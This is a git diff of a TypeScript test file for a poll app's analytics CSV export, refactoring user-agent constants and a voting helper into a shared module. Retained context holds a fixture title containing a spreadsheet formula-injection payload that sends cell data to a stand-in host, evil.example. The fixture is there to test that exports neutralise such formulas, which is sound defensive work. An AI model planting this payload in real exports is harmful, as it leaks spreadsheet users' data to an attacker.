@@ -2,6 +2,7 @@ import { parse } from 'csv-parse/sync';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { answersFor, call, callerWith, lunchPoll, type Caller } from '../support/api-client.ts';
 import { createTestApp, type TestApp } from '../support/app.ts';
+import { castFromClient, USER_AGENTS } from '../support/client-ballots.ts';
 
 /**
  * exportAnalyticsCsv through HTTP: the figures of getAnalytics as one table a spreadsheet opens
@@ -11,11 +12,7 @@ let t: TestApp;
 let organizer: Caller;
 let clock: Date;
 
-const UA = {
-  desktop: 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36',
-  mobile: 'Mozilla/5.0 (iPhone; CPU iPhone OS 17_0 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148',
-  bot: 'curl/8.5.0',
-};
+const UA = USER_AGENTS;
 
 // What a spreadsheet would run: the title and every question start with a formula character.
 const HOSTILE_TITLE = '=HYPERLINK("http://evil.example/?leak="&A1,"Lunch")';
@@ -42,18 +39,7 @@ async function hostilePoll() {
   return (await call(t.app, { method: 'GET', url: `/api/polls/${created.body.pollId}`, caller: organizer })).body;
 }
 
-async function vote(poll: any, userAgent: string, ip: string, answers = answersFor(poll), startedAt?: string) {
-  const cast = await call(t.app, {
-    method: 'POST',
-    url: `/api/polls/${poll.pollId}/ballots`,
-    caller: await callerWith(t),
-    headers: { 'user-agent': userAgent },
-    remoteAddress: ip,
-    payload: { answers, ...(startedAt ? { startedAt } : {}) },
-  });
-  expect(cast.status, JSON.stringify(cast.body)).toBe(201);
-  await t.services.readModelsAt(BigInt(cast.body.position));
-}
+const vote = (poll: any, userAgent: string, ip: string, answers?: ReturnType<typeof answersFor>, startedAt?: string) => castFromClient(t, poll, userAgent, ip, answers, startedAt);
 
 const exportCsv = (pollId: string, caller?: Caller, query = '') =>
   t.app.inject({ method: 'GET', url: `/api/polls/${pollId}/analytics.csv${query}`, headers: caller?.headers ?? {} });
